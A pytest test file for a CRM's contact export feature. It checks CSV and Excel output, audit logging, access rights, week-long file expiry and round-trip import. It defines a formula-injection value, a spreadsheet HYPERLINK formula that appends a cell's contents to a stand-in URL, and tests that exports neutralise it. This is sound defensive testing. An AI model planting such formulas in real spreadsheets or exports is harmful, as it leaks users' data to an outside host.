"""Exports: right in Excel and on the way back, run by no spreadsheet, told to the audit log, gone after a week."""

import csv
import io
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.db import connection
from django.utils import timezone

from crm.accounts.models import User
from crm.bulk import selectors, services
from crm.bulk.errors import FileIsGone
from crm.bulk.models import BulkBatch, BulkFile, BulkFilePart
from crm.bulk.selectors import JobRow
from crm.bulk.services import starting
from crm.bulk.sweeping import sweep
from crm.bulk.writers import XlsxWriter
from crm.contacts import services as contacts
from crm.contacts.enums import DuplicatePolicy
from crm.contacts.imports.loading import import_contacts
from crm.contacts.imports.mapping import guess_mapping
from crm.contacts.imports.reading import open_table
from crm.core.access import Actor
from crm.core.errors import InvalidInput, NotAllowed, NotFound
from crm.journal.models import Event
from tests.bulk.orders import do, finish, order
from tests.contacts.people import make, read, tags_of

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://example.com?"&A1)'


def content_of(actor: Actor, job: JobRow) -> bytes:
    """The file that a job has made."""
    return b"".join(services.open_bulk_file(actor=actor, job_id=job.id).parts)


def csv_rows(actor: Actor, job: JobRow) -> list[list[str]]:
    """The file as a program reads it."""
    return list(csv.reader(io.StringIO(content_of(actor, job).decode("utf-8-sig"), newline="")))


def sheet_rows(actor: Actor, job: JobRow) -> list[list[Any]]:
    """The file as Excel reads it, formulas and all."""
    book = openpyxl.load_workbook(io.BytesIO(content_of(actor, job)))
    return [[cell.value for cell in row] for row in book.active.iter_rows()]


def test_contacts_go_out_as_csv_that_no_spreadsheet_runs(uma: Actor) -> None:
    make(uma, HOSTILE, last_name="+1", email="eve@example.com", phone="+41 44 668 18 00", notes="-2\n@here", tags=["Ä"])
    make(uma, "Léa", last_name='O"Neil, Jr', company="Acme", phone="call me")
    job = do(uma, "export", {"columns": ["first_name", "last_name", "phone", "notes", "company", "tags"]})
    assert (job.label, job.state, job.changed, job.can_undo) == ("Export as CSV", "done", 2, False)
    assert job.file is not None
    assert job.file.name == f"contacts-{datetime.now(UTC):%Y-%m-%d}.csv"
    assert content_of(uma, job).startswith("\ufeffFirst name,Last name,Phone,Notes,Company,Tags\r\n".encode())
    assert csv_rows(uma, job)[1:] == [
        [f"'{HOSTILE}", "'+1", "'+41446681800", "'-2\n@here", "", "Ä"],
        ["Léa", 'O"Neil, Jr', "call me", "", "Acme", ""],
    ]


def test_a_workbook_holds_texts_as_texts_and_moments_as_moments(uma: Actor) -> None:
    User.objects.filter(pk=uma.id or 0).update(time_zone="Asia/Tokyo")
    made = make(uma, HOSTILE, last_name="a & <b>  ", phone="+41446681800", notes="two\nlines  _x_")
    columns = ["id", "first_name", "last_name", "phone", "notes", "company", "created_at"]
    job = do(uma, "export", {"format": "xlsx", "columns": columns})
    header, row = sheet_rows(uma, job)
    assert header == ["Kith id", "First name", "Last name", "Phone", "Notes", "Company", "Created (Asia/Tokyo)"]
    notes = read(uma, made.id).notes
    assert row[:6] == [made.id, HOSTILE, "a & <b>", "+41446681800", notes, None]
    created = datetime.fromisoformat(made.created_at) + timedelta(hours=9)
    assert abs(row[6] - created.replace(tzinfo=None)) < timedelta(seconds=1)
    book = openpyxl.load_workbook(io.BytesIO(content_of(uma, job)))
    assert {cell.data_type for cells in book.active.iter_rows(min_row=2) for cell in cells} == {"n", "s", "d"}
    assert (book.sheetnames, book.active.freeze_panes) == (["Contacts"], "A2")


def test_what_xml_can_not_carry_is_coded() -> None:
    file = io.BytesIO()
    writer = XlsxWriter(file, ["A"], sheet="S")
    writer.write([["bell \x07, \x00, _x0041_, \ufffe, ]]>"], ["x" * 40_000], [1.5], [datetime(2027, 1, 31, 12)]])  # noqa: DTZ001
    writer.close()
    rows = list(openpyxl.load_workbook(file).active.iter_rows(values_only=True))
    # An underscore that would read as the beginning of a code is one itself.
    assert rows[1][0] == "bell _x0007_, _x0000_, _x005F_x0041_, _xFFFE_, ]]>"
    assert len(rows[2][0]) == 32_767
    assert rows[3:] == [(1.5,), (datetime(2027, 1, 31, 12),)]  # noqa: DTZ001


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_went_out_comes_back_as_it_was(uma: Actor, ada: Actor, tmp_path: Path, kind: str) -> None:
    made = make(uma, HOSTILE, last_name="'=x", email="eve@example.com", phone="+41446681800", notes="@home\n-1")
    contacts.add_contact_tag(actor=uma, contact_id=made.id, name="-VIP")
    job = do(uma, "export", {"format": kind})
    assert job.file is not None
    path = tmp_path / job.file.name
    path.write_bytes(content_of(uma, job))
    with open_table(path) as table:
        (result,) = import_contacts(
            actor=ada,
            rows=table.rows(),
            mapping=guess_mapping(table.columns),
            file_name=path.name,
            duplicates=DuplicatePolicy.CREATE,
        )
    again = read(ada, result.contact_id or 0)
    for field in ("first_name", "last_name", "email", "phone", "notes"):
        assert getattr(again, field) == getattr(made, field)
    assert tags_of(again) == ["-VIP"]


def test_an_export_is_told_to_the_audit_log(uma: Actor) -> None:
    make(uma, "Grace")
    job = do(uma, "export", {"format": "xlsx", "columns": ["email"]}, q="grace")
    event = Event.objects.get(name="records.exported")
    assert (event.actor_id, event.subject_id) == (uma.id, job.id)
    assert event.data == {
        "subject_id": job.id,
        "count": 1,
        "records": "contacts",
        "format": "XLSX",
        "columns": ["email"],
        "selection": "matching “grace”",
    }


def test_who_may_not_export_does_not(uma: Actor, vic: Actor) -> None:
    make(uma, "Grace")
    with pytest.raises(NotAllowed):
        order(vic, "export")
    job = order(uma, "export")
    User.objects.filter(pk=uma.id or 0).update(is_active=False)
    job = finish(uma, job)
    assert (job.state, job.file, job.error) == ("failed", None, "Uma may not sign in any more.")
    assert not Event.objects.filter(name="records.exported").exists()


def test_a_file_is_its_owners_and_the_administrators_and_goes_after_a_week(uma: Actor, ada: Actor, vic: Actor) -> None:
    make(uma, "Grace")
    hers, his = do(uma, "export"), do(ada, "export")
    assert content_of(ada, hers)
    with pytest.raises(NotFound):
        services.open_bulk_file(actor=uma, job_id=his.id)
    with pytest.raises(NotAllowed):
        services.open_bulk_file(actor=vic, job_id=his.id)
    with pytest.raises(FileIsGone):
        services.open_bulk_file(actor=uma, job_id=do(uma, "add_tags", {"tags": ["VIP"]}).id)
    BulkFile.objects.filter(job_id=hers.id).update(expires_at=timezone.now())
    assert selectors.get_bulk_job(actor=uma, job_id=hers.id).file is None
    with pytest.raises(FileIsGone):
        services.open_bulk_file(actor=uma, job_id=hers.id)
    sweep()
    assert set(BulkFilePart.objects.values_list("file__job_id", flat=True)) == {his.id}


def test_a_file_is_kept_in_pieces_and_read_by_batches(uma: Actor, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("crm.bulk.exporting.PART_BYTES", 64)
    monkeypatch.setattr("crm.bulk.exporting.PARTS_AT_ONCE", 3)
    monkeypatch.setattr(starting, "BATCH", 3)
    gone = make(uma, "Gone").id
    for number in range(10):
        make(uma, f"Person {number}", notes="x" * 50)
    job = order(uma, "export", {"columns": ["first_name", "notes"]})
    contacts.archive_contact(actor=uma, contact_id=gone)
    with connection.cursor() as cursor:
        cursor.execute("DELETE FROM contacts_contact WHERE id = %s", [gone])
    job = finish(uma, job)
    assert (job.total, job.changed, job.refused, job.progress) == (11, 10, 1, 1.0)
    assert BulkFilePart.objects.count() > 6
    assert [row[0] for row in csv_rows(uma, job)[1:]] == [f"Person {number}" for number in range(10)]
    assert job.file is not None
    assert job.file.size == len(content_of(uma, job))
    assert not BulkBatch.objects.exists()


def test_a_cancelled_export_leaves_no_file(uma: Actor) -> None:
    make(uma, "Grace")
    job = order(uma, "export")
    services.cancel_bulk_job(actor=uma, job_id=job.id)
    job = finish(uma, job)
    assert (job.state, job.file) == ("cancelled", None)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"format": "pdf"}, "params.format"),
        ({"columns": ["password"]}, "params.columns"),
        ({"columns": "id"}, "params.columns"),
    ],
)
def test_a_wrong_order_is_refused(uma: Actor, params: dict[str, Any], field: str) -> None:
    make(uma, "Grace")
    with pytest.raises(InvalidInput) as refusal:
        order(uma, "export", params)
    assert set(refusal.value.fields or ()) == {field}
